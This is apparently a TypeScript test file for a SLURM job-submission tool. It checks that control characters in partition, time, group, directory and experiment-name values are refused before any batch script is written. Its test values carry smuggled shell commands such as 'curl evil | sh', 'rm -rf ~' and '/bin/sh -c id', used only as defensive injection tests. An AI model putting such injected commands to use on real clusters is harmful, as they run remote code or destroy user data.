// No cluster input becomes a command: a control character in any value that reaches an #SBATCH line or
// the script (a newline would end the directive and start a line bash runs on every node) is refused,
// naming the option, before anything is written: by the CLI as it parses, by submitExperiment, and by
// the script builder itself. An sbatch stand-in on PATH would accept whatever got through.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mustValidate } from '../../app/spec/validate.ts';
import type { ClusterOptions } from '../store/clusters.ts';
import { RunStore } from '../store/store.ts';
import { sbatchScript } from './sbatch-script.ts';
import { submitExperiment } from './submit.ts';
import { fakeSbatch } from './testing/fake-sbatch.ts';
import { dumpStore } from './testing/store-dump.ts';

const root = new URL('../../', import.meta.url).pathname;
const dir = mkdtempSync(join(tmpdir(), 'sublab-inputs-'));
const spec = mustValidate({ version: 1, name: 'inputs', replicates: 2 });
const specFile = join(dir, 'spec.json');
writeFileSync(specFile, JSON.stringify(spec));
const db = join(dir, 'store.sqlite');
new RunStore(db).close();

const injected = 'debug\n#SBATCH --x\ntouch /tmp/pwned';
/** Each CLI option that reaches the script, with a value that would break out of its line. */
const cliCases: [string, string][] = [
  ['--partition', injected],
  ['--time', '1:00:00\ncurl evil | sh'],
  ['--sbatch-arg', '--mem=1G\rtouch x'],
  ['--node-command', '/usr/bin/node\n/bin/sh -c id #'],
  ['--group', 'lab\u0001'], // (no NUL: argv cannot carry one)
  ['--dir', join(dir, 'a\nb')],
];

test('a control character in any SLURM option or the directory: `sublab submit` refuses it by name, nothing written', () => {
  const sbatch = fakeSbatch();
  const before = dumpStore(db);
  for (const [option, value] of cliCases) {
    const shared = join(dir, `shared${option}`);
    const args = ['submit', specFile, '--slurm', '--db', db, '--backend', 'wasm'];
    args.push(...(option === '--dir' ? [] : ['--dir', shared]), `${option}=${value}`);
    const out = spawnSync(process.execPath, [join(root, 'bin/sublab.js'), ...args], {
      cwd: dir,
      encoding: 'utf8',
      env: sbatch.env,
    });
    assert.notEqual(out.status, 0, `${option}: ${out.stdout}`);
    assert.match(out.stderr, new RegExp(`${option} .*contains a control character \\(U\\+00`), option);
    assert.equal(existsSync(option === '--dir' ? value : shared), false, `${option}: no directory made`);
  }
  assert.equal(sbatch.args(), null, 'sbatch was never called');
  assert.deepEqual(dumpStore(db), before, 'the store is unchanged');
});

test('submitExperiment and the script builder refuse each control character, by option', async () => {
  const sbatch = fakeSbatch();
  const store = new RunStore(db);
  const before = dumpStore(db);
  const shared = join(dir, 'library');
  const options = (extra: Partial<ClusterOptions>): ClusterOptions => ({ sbatchArgs: [], ...extra });
  const cases: [string, ClusterOptions, string | undefined, string][] = [
    ['--partition', options({ partition: 'gpu\nrm -rf ~' }), undefined, shared],
    ['--time', options({ time: '2:00:00\u007f' }), undefined, shared],
    ['--sbatch-arg', options({ sbatchArgs: ['--mem=8G', '--comment=a\tb'] }), undefined, shared],
    ['--group', options({ group: 'lab\nx' }), undefined, shared],
    ['--node-command', options({}), 'node\u001b[2J', shared],
    ['--dir', options({}), undefined, join(dir, 'lib\rrary')],
  ];
  try {
    for (const [option, opts, command, where] of cases) {
      const input = { spec, dir: where, backend: 'wasm' as const, shards: 1, options: opts };
      await assert.rejects(
        submitExperiment(store, command === undefined ? input : { ...input, command }, sbatch.scheduler),
        new RegExp(`^Error: ${option} .*contains a control character`),
      );
      assert.equal(existsSync(where), false, `${option}: no directory made`);
      assert.throws(
        () =>
          sbatchScript({
            experimentId: 1,
            jobName: 'sublab-1-00000000',
            name: 'x',
            dir: where,
            units: 2,
            options: opts,
            command: command ?? 'node sublab.js',
          }),
        new RegExp(`^Error: ${option} .*contains a control character`),
        `the script builder refuses ${option} too`,
      );
    }
  } finally {
    store.close();
  }
  assert.equal(sbatch.args(), null, 'sbatch was never called');
  assert.deepEqual(dumpStore(db), before, 'the store is unchanged');
});

test("the experiment's name goes into the script's comment on one line", () => {
  const script = sbatchScript({
    experimentId: 3,
    jobName: 'sublab-3-00000000',
    name: 'paper\nrm -rf ~\r\u0000',
    dir: '/shared/x',
    units: 1,
    options: { sbatchArgs: [] },
    command: 'node sublab.js',
  });
  assert.match(script, /^# Subliminal Lab: experiment 3 \(paper rm -rf ~ {2}\) as a SLURM array job/m);
  assert.doesNotMatch(script, /^rm -rf/m);
});
